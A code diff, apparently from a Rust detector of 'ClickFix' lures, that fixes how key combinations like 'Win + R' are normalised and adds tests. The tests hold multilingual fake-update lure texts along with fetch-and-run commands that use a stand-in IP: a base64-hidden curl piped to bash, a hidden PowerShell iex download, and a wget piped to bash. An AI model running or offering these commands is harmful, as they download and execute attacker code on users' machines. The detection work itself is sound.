@@ -1114,17 +1114,23 @@ pub fn apply(found: ClickFix, verdict: &mut Verdict) {
 /// Removes spaces around `+` so that "win + r" reads "win+r". Applied to `base` and `skel`
 /// alike: they have the same bytes at every space and `+`, so they stay aligned.
 fn join_plus(s: &str) -> String {
-    let b = s.as_bytes();
     let mut out = String::with_capacity(s.len());
-    for (i, c) in s.char_indices() {
+    // A run of spaces is held until what follows it is known: dropped next to a `+` (every
+    // space of it: "[win] + [r]" reads "win   +  r" once its brackets are gone).
+    let mut spaces = 0;
+    for c in s.chars() {
         if c == ' ' {
-            let prev_plus = out.ends_with('+');
-            let next_plus = b.get(i + 1) == Some(&b'+');
-            if prev_plus || next_plus {
-                continue;
-            }
+            spaces += 1;
+            continue;
         }
+        if c != '+' && !out.ends_with('+') {
+            out.extend(std::iter::repeat_n(' ', spaces));
+        }
+        spaces = 0;
         out.push(c);
+    }
+    if !out.ends_with('+') {
+        out.extend(std::iter::repeat_n(' ', spaces));
     }
     out
 }
@@ -2412,6 +2418,8 @@ mod tests {
             "Safari is out of date. Press Cmd + Space, type Terminal, and type this command:\n\
              echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjUvdSB8IGJhc2g= | base64 -d | bash\n\
              Press Return.",
+            "Safari n'est plus à jour. Ouvrez le Terminal et tapez la commande suivante :\n\
+             echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjUvdSB8IGJhc2g= | base64 -d | bash",
         ] {
             let got = v("https://check.example/", text);
             assert_eq!(
@@ -2452,9 +2460,37 @@ mod tests {
     }
 
     #[test]
+    fn keys_in_brackets_shell_windows_by_name_and_linux_terminals() {
+        let ps = "powershell -w h -c \"iex(irm http://203.0.113.5/v)\"";
+        for text in [
+            "Robot check: press [Win] + [R], then [Ctrl] + [V], then [Enter].",
+            "Ein Fehler ist aufgetreten. Öffnen Sie PowerShell, fügen Sie den Befehl ein und \
+             drücken Sie die Eingabetaste.",
+            "Une erreur s'est produite. Ouvrez PowerShell, collez la commande, Entrée.",
+            "Se ha producido un error. Abra PowerShell, pegue el comando y pulse Intro.",
+        ] {
+            assert!(judged(ps, text), "{text}");
+        }
+        let sh = "wget -qO- http://203.0.113.5/l | bash";
+        for text in [
+            "Your browser is out of date. Press Alt + F2, paste the command and press Enter.",
+            "Update failed. Press Ctrl + Alt + T, paste with Ctrl + Shift + V, press Enter.",
+        ] {
+            assert!(judged(sh, text), "{text}");
+        }
+        // A Linux install page says the same and shows what it copies.
+        let get = "curl -fsSL https://get.example-tool.test/install.sh | sh";
+        assert!(!judged(
+            get,
+            &format!("Press Ctrl + Alt + T to open a terminal, paste and press Enter:\n{get}")
+        ));
+    }
+
+    #[test]
     fn key_combos_join() {
         assert_eq!(join_plus("win + r and ctrl +v"), "win+r and ctrl+v");
         assert_eq!(join_plus("a + + b"), "a++b");
+        assert_eq!(join_plus("[win]   +  [r]  x  "), "[win]+[r]  x  ");
     }
 
     #[test]
